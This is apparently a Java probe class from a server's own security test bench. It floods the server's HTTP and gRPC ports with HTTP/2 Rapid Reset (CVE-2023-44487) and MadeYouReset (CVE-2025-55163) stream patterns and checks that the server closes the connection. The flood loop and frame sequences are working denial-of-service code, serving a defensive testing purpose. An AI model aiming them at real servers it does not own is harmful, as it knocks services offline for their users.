package io.sluice.bench.attack;

import io.netty.handler.codec.http2.DefaultHttp2Headers;
import io.netty.handler.codec.http2.Http2Error;
import io.netty.handler.codec.http2.Http2Headers;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/**
 * HTTP/2 reset floods on one connection per port (HTTP and gRPC), each stream a complete request:
 *
 * <ul>
 *   <li>{@link Pattern#RAPID_RESET} (CVE-2023-44487): a check (HEADERS, then DATA with END_STREAM: {@code POST
 *       /v1/check} on the HTTP port, {@code ShouldRateLimit} on the gRPC port), then the client's own RST_STREAM
 *       (CANCEL). The stream is gone at once, so the stream limit never bites; the server must count the
 *       client's resets and close the connection.</li>
 *   <li>{@link Pattern#MADE_YOU_RESET} (CVE-2025-55163): the same check, then a WINDOW_UPDATE of 0 on its stream,
 *       a stream error (RFC 9113 §6.9) that makes the server reset the stream itself while it is still working
 *       on the request; a server that only counts the client's resets, or stops counting a stream once it reset
 *       it, never stops. It must count its own and close.</li>
 *   <li>{@link Pattern#MADE_YOU_RESET_ANSWERED}: the frames of sluice-server's {@code Http2AbuseIT}, a request
 *       complete in its HEADERS ({@code GET /health}, END_STREAM), then the WINDOW_UPDATE of 0; the server has
 *       usually answered the stream already, so it resets a stream that is closed, which no concurrency limit
 *       sees: only a count of the server's own resets stops it.</li>
 * </ul>
 *
 * Streams are written in batches of {@link #BATCH} as fast as the socket takes them (MadeYouReset: at most
 * {@link #AHEAD} ahead of the server's resets), until the server sends its final GOAWAY (an error, or a last
 * stream id below 2^31-1: a graceful GOAWAY first announces 2^31-1 and lets streams continue) or closes (or
 * resets) the connection, or {@code maxStreams} were written, or {@code seconds} passed. "Written" counts what
 * this client handed to its socket; on loopback megabytes of it can sit in the socket buffers unread when the
 * server stops, so the server's own answers and resets are counted too. What held: the server closed the
 * connection, or sent a GOAWAY with an error, before the bound.
 */
final class Http2ResetProbe implements Probe {
    /** Streams per write: small enough that a close is seen within a few hundred streams of when it came. */
    static final int BATCH = 50;
    /** MadeYouReset: streams written and not yet reset by the server, at most. */
    static final int AHEAD = 1_000;
    /** How long to wait for the close after GOAWAY or after the last stream. */
    private static final long CLOSE_WAIT_MS = 10_000;

    enum Pattern {
        RAPID_RESET("http2_rapid_reset", "a check (HTTP: POST /v1/check; gRPC: ShouldRateLimit) as HEADERS + "
                + "DATA(END_STREAM), then RST_STREAM(CANCEL)"),
        MADE_YOU_RESET("http2_made_you_reset", "a check as HEADERS + DATA(END_STREAM), then WINDOW_UPDATE(0)"),
        MADE_YOU_RESET_ANSWERED("http2_made_you_reset_answered", "GET /health as HEADERS(END_STREAM), then "
                + "WINDOW_UPDATE(0)");

        final String probeName;
        final String frames;

        Pattern(String probeName, String frames) {
            this.probeName = probeName;
            this.frames = frames;
        }
    }

    private final Pattern pattern;
    private final int maxStreams;
    private final int seconds;

    Http2ResetProbe(Pattern pattern, int maxStreams, int seconds) {
        this.pattern = pattern;
        this.maxStreams = maxStreams;
        this.seconds = seconds;
    }

    @Override
    public String name() {
        return pattern.probeName;
    }

    @Override
    public String describe() {
        return String.format("one h2c connection per port (HTTP and gRPC), streams of %s, until GOAWAY or close, at "
                + "most %,d streams or %d s", pattern.frames, maxStreams, seconds);
    }

    /** What one connection's attack came to. */
    record Result(String port, int streamsSent, int serverResets, int responses, String goawayError,
                  String goawayDebug, double secondsToGoaway, int goawayLastStream, boolean closed,
                  boolean resetByServer, double secondsToEnd, String failure) {

        /** The server ended the connection: closed or reset it, or sent a GOAWAY with an error code. */
        boolean cutOff() {
            return closed || (goawayError != null && !goawayError.equals("NO_ERROR"));
        }

        String outcome() {
            if (goawayError != null) {
                return port + ": GOAWAY " + goawayError + (resetByServer ? " and reset" : closed ? " and closed"
                        : ", not closed");
            }
            if (failure != null) {
                return port + ": this client failed (" + failure + ")";
            }
            if (resetByServer) {
                return port + ": reset by the server without GOAWAY";
            }
            return port + (closed ? ": closed without GOAWAY" : ": still open");
        }

        @Override
        public String toString() {
            String goaway = goawayError == null ? "" : String.format("GOAWAY after %.1f s%s, last stream %,d; ",
                    secondsToGoaway, goawayDebug.isEmpty() ? "" : " (\"" + goawayDebug + "\")", goawayLastStream);
            return String.format("%s after %,d streams written in %.1f s (%s%,d server resets, %,d response "
                    + "headers)", outcome(), streamsSent, secondsToEnd, goaway, serverResets, responses);
        }
    }

    @Override
    public Outcome run(Target target) throws Exception {
        Answers answers = new Answers();
        List<String> findings = new ArrayList<>();
        List<String> violations = new ArrayList<>();
        List<Result> results = new ArrayList<>();
        boolean check = pattern != Pattern.MADE_YOU_RESET_ANSWERED;
        results.add(attack(target.host(), target.httpPort(), "HTTP", check ? checkRequest(target.host(),
                target.httpPort()) : healthRequest(target.host(), target.httpPort())));
        if (target.grpcPort() >= 0) {
            results.add(attack(target.host(), target.grpcPort(), "gRPC", check ? grpcRequest(target.host(),
                    target.grpcPort()) : healthRequest(target.host(), target.grpcPort())));
        } else {
            violations.add("the server did not print its gRPC port");
        }
        for (Result r : results) {
            answers.add(r.outcome());
            findings.add(r.toString());
            if (r.failure() != null) {
                violations.add(r.port() + " port: this client failed: " + r.failure());
            } else if (!r.cutOff()) {
                violations.add(String.format("%s port: not closed (nor a GOAWAY with an error) after %,d streams "
                        + "written, %,d reset by the server", r.port(), r.streamsSent(), r.serverResets()));
            }
        }
        return new Outcome(answers, String.join("; ", findings), violations);
    }

    /**
     * Streams of the pattern on one new connection until the server cuts it off or the bounds are reached; then
     * up to {@link #CLOSE_WAIT_MS} for the close.
     */
    Result attack(String host, int port, String portName, Request request) throws InterruptedException {
        long start = System.nanoTime();
        long end = start + seconds * 1_000_000_000L;
        int sent = 0;
        try (RawHttp2Connection connection = RawHttp2Connection.open(host, port)) {
            RawHttp2Connection.StreamFrames frames = (f, id) -> {
                f.headers(id, request.headers(), request.body() == null);
                if (request.body() != null) {
                    f.data(id, request.body(), true);
                }
                if (pattern == Pattern.RAPID_RESET) {
                    f.rstStream(id, Http2Error.CANCEL);
                } else {
                    f.windowUpdate(id, 0);
                }
            };
            while (sent < maxStreams && System.nanoTime() < end && !connection.finalGoawayReceived()) {
                // MadeYouReset: no further ahead of the server than AHEAD streams it has not reset yet, so that
                // what was written is what the server read, not megabytes waiting in the socket buffers.
                while (pattern != Pattern.RAPID_RESET && sent - connection.serverResets() > AHEAD
                        && !connection.closed() && System.nanoTime() < end) {
                    Thread.sleep(1);
                }
                int batch = Math.min(BATCH, maxStreams - sent);
                if (!connection.write(1 + 2 * sent, batch, frames)) {
                    break;
                }
                sent += batch;
            }
            connection.awaitClose(CLOSE_WAIT_MS);
            long ended = connection.closed() ? connection.closedAtNanos() : System.nanoTime();
            // An I/O error on the socket is the server resetting the connection (TCP RST: it closed with our
            // frames still unread); anything else is this client's own failure.
            Throwable failure = connection.failure();
            boolean reset = failure instanceof IOException;
            return new Result(portName, sent, connection.serverResets(), connection.responses(),
                    connection.goawayError(), connection.goawayDebug(), (connection.goawayAtNanos() - start) / 1e9,
                    connection.goawayLastStream(), connection.closed(), reset, (ended - start) / 1e9,
                    failure == null || reset ? null : failure.toString());
        }
    }

    /** One complete request: its HEADERS and its body (null: none, END_STREAM on the HEADERS). */
    record Request(Http2Headers headers, byte[] body) {}

    private static Request checkRequest(String host, int port) {
        Http2Headers headers = new DefaultHttp2Headers().method("POST").scheme("http").path("/v1/check")
                .authority(host + ":" + port).add("content-type", "application/json");
        return new Request(headers, "{\"rule\":\"bench\",\"key\":\"h2-reset\"}".getBytes(StandardCharsets.UTF_8));
    }

    private static Request grpcRequest(String host, int port) {
        Http2Headers headers = new DefaultHttp2Headers().method("POST").scheme("http").path(MalformedGrpcProbe.PATH)
                .authority(host + ":" + port).add("content-type", "application/grpc").add("te", "trailers");
        return new Request(headers, MalformedGrpcProbe.frame(0, MalformedGrpcProbe.request("h2-reset")));
    }

    private static Request healthRequest(String host, int port) {
        return new Request(new DefaultHttp2Headers().method("GET").scheme("http").path("/health")
                .authority(host + ":" + port), null);
    }
}
